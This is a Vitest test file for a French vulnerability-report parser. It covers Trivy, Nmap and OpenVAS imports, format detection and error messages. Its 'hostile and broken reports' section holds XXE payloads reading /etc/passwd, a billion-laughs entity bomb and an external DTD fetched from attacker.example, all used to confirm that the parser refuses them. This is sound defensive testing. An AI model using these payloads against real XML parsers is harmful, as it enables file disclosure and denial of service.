import { rmSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseReportFile, ReportError } from '../../server/src/scan-reports/index.ts';
import { byKey, refusal, scanFile, scratchReports } from './support/scan-reports.ts';

const file = scanFile;
const temp = scratchReports('vigie-reports-', 'txt');

const DTD_MESSAGE = 'Rapport refusé : les DTD et entités XML ne sont pas acceptées.';
const UNKNOWN_MESSAGE =
  'Format de rapport non reconnu (formats acceptés : Trivy JSON, Nmap XML, OpenVAS XML, OWASP ZAP XML/JSON, ' +
  'Nessus XML, Grype JSON, CycloneDX JSON, OWASP Dependency-Check XML, SARIF 2.1.0 ; fichier brut ou compressé en gzip).';

describe('Trivy JSON reports', () => {
  it('reads an Alpine image: one finding per (CVE, package), CVSS of the severity source', async () => {
    const { format, findings } = await parseReportFile(file('trivy/image_alpine_scheme2.json'));
    expect(format).toBe('trivy');
    expect(findings).toHaveLength(5);
    expect(new Set(findings.map((f) => f.asset.name))).toEqual(new Set(['teamdojo:latest']));
    expect(findings[0]!.asset).toMatchObject({ asset_type: 'container', operating_system: 'alpine 3.9.4' });
    expect(byKey(findings, 'CVE-2019-12900|libbz2')).toMatchObject({ cve_id: 'CVE-2019-12900', severity: 'critical' });
    expect(byKey(findings, 'CVE-2020-15999|freetype')).toMatchObject({
      severity: 'medium',
      cvss_score: 6.5,
      cvss_vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:N/A:H',
      package_name: 'freetype',
      installed_version: '2.9.1-r2',
      fixed_version: '2.9.1-r3',
      cwe_ids: ['CWE-787'],
      solution: 'Mettre à jour freetype vers la version 2.9.1-r3.',
    });
    expect(byKey(findings, 'CVE-2020-28196|krb5-libs')?.severity).toBe('high');
  });

  it('names an image scanned without ArtifactName after its OS target, skips not_affected, keeps non-CVE ids', async () => {
    const { findings } = await parseReportFile(file('trivy/image_debian_all_statuses.json'));
    expect(findings).toHaveLength(7);
    expect(findings[0]!.asset.name).toBe('noppaknopsta/example-app:main-159');
    expect(byKey(findings, 'CVE-2019-18276|bash')).toBeUndefined();
    const temp = byKey(findings, 'TEMP-0841856-B18BAF|bash');
    expect(temp).toMatchObject({ severity: 'low', title: expect.any(String) });
    expect(temp?.cve_id).toBeUndefined();
  });

  it('prefers the CVSS v4 score of the severity source', async () => {
    const { findings } = await parseReportFile(file('trivy/fs_cvssv4_severity_source.json'));
    expect(findings).toHaveLength(3);
    expect(byKey(findings, 'CVE-2025-66614|org.apache.tomcat:tomcat-catalina')).toMatchObject({
      severity: 'medium',
      cvss_score: 6.3,
      cvss_vector: 'CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:L/VI:L/VA:N/SC:N/SI:N/SA:N',
    });
  });

  it('adds failed misconfigurations and secrets, never copying the secret', async () => {
    const { findings } = await parseReportFile(file('trivy/misconfigurations_and_secrets.json'));
    expect(findings).toHaveLength(5);
    expect(byKey(findings, 'misconfig:DS002|Dockerfile')).toMatchObject({ severity: 'high' });
    const secrets = findings.filter((f) => f.finding_key.startsWith('secret:'));
    expect(secrets.map((s) => s.finding_key).sort()).toEqual([
      'secret:github-pat|Dockerfile:24',
      'secret:github-pat|secret.txt:1',
    ]);
    expect(JSON.stringify(findings)).not.toContain('GITHUB_PAT');
  });

  it('merges a CVE seen in several lock files of a repository into one finding naming the other places', async () => {
    const { findings } = await parseReportFile(file('trivy/repo_securecodebox.json'));
    // 42 vulnerabilities, 18 distinct (CVE, package) pairs, plus one secret.
    expect(findings).toHaveLength(19);
    const axios = byKey(findings, 'CVE-2024-39338|axios');
    expect(axios?.severity).toBe('high');
    expect(axios?.description).toContain('Également détecté : ');
    expect(axios?.description).toContain('hooks/generic-webhook/hook/package-lock.json');
  });
});

describe('Nmap XML reports', () => {
  it('turns the open ports of a host into info findings keyed port:<proto>/<port>', async () => {
    const { format, findings } = await parseReportFile(file('nmap/localhost.xml'));
    expect(format).toBe('nmap');
    expect(findings.map((f) => f.finding_key)).toEqual([
      'port:tcp/53',
      'port:tcp/8021',
      'port:tcp/8080',
      'port:tcp/9200',
    ]);
    expect(findings.every((f) => f.severity === 'info')).toBe(true);
    expect(findings[2]).toMatchObject({
      asset: { name: 'localhost', hostname: 'localhost', ip_address: '127.0.0.1', asset_type: 'server' },
      port: 8080,
      protocol: 'tcp',
      service: 'http-proxy',
      title: 'Port 8080/tcp ouvert (http-proxy)',
    });
  });

  it('reads an IPv6 host by its hostname', async () => {
    const { findings } = await parseReportFile(file('nmap/scanme.nmap.org-ipv6.xml'));
    expect(findings).toHaveLength(3);
    expect(findings[0]!.asset).toMatchObject({ name: 'scanme.nmap.org', ip_address: '2600:3c01::f03c:91ff:fe18:bb2f' });
    expect(byKey(findings, 'port:tcp/31337')?.service).toBe('Elite');
  });

  it('adds the CVEs of the vulners script with their CVSS, ignoring exploit references', async () => {
    const { findings } = await parseReportFile(file('nmap/vulners-script-10.250.195.71.xml'));
    const cves = findings.filter((f) => f.cve_id);
    expect(findings).toHaveLength(33);
    expect(cves.map((f) => f.cve_id).sort()).toEqual(
      [
        'CVE-2017-15906',
        'CVE-2018-15473',
        'CVE-2018-15919',
        'CVE-2018-20685',
        'CVE-2019-6109',
        'CVE-2019-6110',
        'CVE-2019-6111',
        'CVE-2020-14145',
      ].sort(),
    );
    expect(byKey(findings, 'CVE-2019-6111')).toMatchObject({
      cvss_score: 5.8,
      severity: 'medium',
      port: 22,
      service: 'ssh',
    });
    expect(byKey(findings, 'CVE-2018-20685')).toMatchObject({ cvss_score: 2.6, severity: 'low' });
    expect(findings[0]!.asset.name).toBe('ip-10-250-195-71.eu-west-1.compute.internal');
    expect(findings[0]!.asset.ip_address).toBe('10.250.195.71');
  });

  it('reads the small vulners sample: one port and two CVEs', async () => {
    const { findings } = await parseReportFile(file('nmap/nmap_script_vulners.xml'));
    expect(findings.map((f) => [f.finding_key, f.severity, f.cvss_score])).toEqual([
      ['port:tcp/5022', 'info', undefined],
      ['CVE-2018-15919', 'medium', 5],
      ['CVE-2017-15906', 'medium', 5],
    ]);
    expect(findings[0]!.asset.name).toBe('192.168.0.1');
  });
});

describe('OpenVAS XML reports', () => {
  it('splits a result naming several CVEs into one finding per CVE', async () => {
    const { format, findings } = await parseReportFile(file('openvas/one_vuln.xml'));
    expect(format).toBe('openvas');
    expect(findings).toHaveLength(12);
    expect(findings.every((f) => f.finding_key === f.cve_id && f.severity === 'critical')).toBe(true);
    expect(byKey(findings, 'CVE-2023-4573')).toMatchObject({
      asset: { name: '10.0.101.2', ip_address: '10.0.101.2' },
      title: 'Mozilla Firefox Security Update (mfsa_2023-32_2023-36) - Windows',
      cvss_score: 10,
      protocol: 'tcp',
      port: undefined,
    });
    expect(byKey(findings, 'CVE-2023-4573')?.solution).toContain('Upgrade to version 117 or later');
  });

  it('reads a GMP 22 report: hostname, port and CVSS vector', async () => {
    const { findings } = await parseReportFile(file('openvas/report_detail_v2.xml'));
    expect(findings).toHaveLength(93);
    expect(byKey(findings, 'CVE-2025-49659')).toMatchObject({
      asset: { name: 'server99', hostname: 'server99', ip_address: '10.99.99.99' },
      port: 42,
      protocol: 'tcp',
      cvss_score: 9.8,
      severity: 'critical',
      cvss_vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
    });
  });

  it('keys CVE-less results by NVT and merges a result seen on two ports', async () => {
    const { findings } = await parseReportFile(file('openvas/many_vuln_metasploitable2.xml'));
    // 44 results, 76 (result, CVE) pairs, 65 distinct keys on the one host.
    expect(findings).toHaveLength(65);
    expect(byKey(findings, 'nvt:1.3.6.1.4.1.25623.1.0.103549')).toMatchObject({ port: 1524, severity: 'critical' });
    const irc = byKey(findings, 'CVE-2016-7144');
    expect(irc).toMatchObject({ port: 6667, severity: 'high', cvss_score: 8.1 });
    expect(irc?.description).toContain('Également détecté : 6697/tcp.');
    const counts = findings.reduce<Record<string, number>>(
      (acc, f) => ({ ...acc, [f.severity]: (acc[f.severity] ?? 0) + 1 }),
      {},
    );
    expect(counts).toEqual({ critical: 9, high: 18, medium: 38 });
  });
});

describe('format detection and overrides', () => {
  it('detects every shipped report by its content, whatever its file name', async () => {
    for (const [rel, format] of [
      ['trivy/image_alpine_scheme2.json', 'trivy'],
      ['nmap/localhost.xml', 'nmap'],
      ['openvas/one_vuln.xml', 'openvas'],
    ] as const) {
      const { readFileSync } = await import('node:fs');
      const renamed = temp(readFileSync(file(rel)), 'bin');
      expect((await parseReportFile(renamed)).format, rel).toBe(format);
    }
  });

  it('refuses other formats as unknown, and a report that is not what the override says', async () => {
    // The CSV exports beside the OpenVAS and Nessus samples are not a format of ours.
    for (const rel of ['openvas/many_vuln.csv', 'nessus/nessus_many_vuln.csv']) {
      expect((await refusal(file(rel))).message, rel).toBe(UNKNOWN_MESSAGE);
    }
    expect((await refusal(temp('just some text'))).message).toBe(UNKNOWN_MESSAGE);
    expect((await refusal(temp('{"a": 1}'))).message).toBe(UNKNOWN_MESSAGE);
    expect((await refusal(file('openvas/one_vuln.xml'), 'nmap')).message).toBe(
      'Rapport Nmap XML invalide : élément racine <report> inattendu.',
    );
    expect((await refusal(file('nmap/localhost.xml'), 'trivy')).message).toBe(
      'Rapport Trivy JSON invalide : JSON mal formé.',
    );
    expect((await refusal(file('trivy/image_alpine_scheme2.json'), 'openvas')).message).toMatch(
      /^Rapport OpenVAS XML invalide : XML mal formé \(.+\)\.$/,
    );
  });
});

describe('hostile and broken reports', () => {
  const xxe = `<?xml version="1.0"?>
<!DOCTYPE nmaprun [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<nmaprun><host><address addr="&xxe;" addrtype="ipv4"/></host></nmaprun>`;
  const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<report><results><result>&lol3;</result></results></report>`;
  const external = '<?xml version="1.0"?><!DOCTYPE report SYSTEM "http://attacker.example/evil.dtd"><report/>';
  const parameter = '<?xml version="1.0"?><!DOCTYPE nmaprun PUBLIC "-//x//y" "evil.dtd"><nmaprun/>';

  it('refuses DTDs and entity declarations before parsing, detected or forced', async () => {
    for (const [content, format] of [
      [xxe, 'auto'],
      [xxe, 'nmap'],
      [laughs, 'auto'],
      [laughs, 'openvas'],
      [external, 'auto'],
      [external, 'openvas'],
      [parameter, 'nmap'],
      ['<!ENTITY x "y"><nmaprun/>', 'nmap'],
    ] as const) {
      const err = await refusal(temp(content, 'xml'), format);
      expect(err.message, content.slice(0, 60)).toBe(DTD_MESSAGE);
      expect(err.status).toBe(400);
    }
  });

  it('accepts the bare DOCTYPE Nmap writes, but never expands an undeclared entity', async () => {
    const bare = '<?xml version="1.0"?>\n<!DOCTYPE nmaprun>\n<nmaprun></nmaprun>';
    expect((await parseReportFile(temp(bare, 'xml'))).findings).toEqual([]);
    const undeclared = '<nmaprun><host><address addr="&secret;" addrtype="ipv4"/></host></nmaprun>';
    expect((await refusal(temp(undeclared, 'xml'))).message).toMatch(/^Rapport Nmap XML invalide : XML mal formé/);
  });

  it('answers malformed XML and JSON with a message naming the format', async () => {
    expect((await refusal(temp('<nmaprun><host></nmaprun>', 'xml'))).message).toMatch(
      /^Rapport Nmap XML invalide : XML mal formé \(.+\)\.$/,
    );
    expect((await refusal(temp('<report><results>', 'xml'))).message).toMatch(/^Rapport OpenVAS XML invalide/);
    expect((await refusal(temp('{"SchemaVersion": 2, "Results": ['))).message).toBe(
      'Rapport JSON invalide : JSON mal formé.',
    );
    expect((await refusal(temp('{"SchemaVersion": 2, "Results": {}}'))).message).toBe(
      'Rapport Trivy JSON invalide : champs SchemaVersion et Results attendus.',
    );
    expect((await refusal(temp(''))).message).toBe('Le fichier du rapport est vide.');
  });

  it('never fails with anything but a ReportError, whatever the bytes', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string(),
          fc.string().map((s) => `<nmaprun>${s}`),
          fc.string().map((s) => `<report><results><result>${s}</result></results></report>`),
          fc.string().map((s) => `{"SchemaVersion":2,"Results":[${s}]}`),
        ),
        async (content) => {
          const p = temp(content);
          await parseReportFile(p).catch((err: unknown) => {
            if (!(err instanceof ReportError)) throw err;
          });
          rmSync(p);
        },
      ),
      { numRuns: 150 },
    );
  });
});
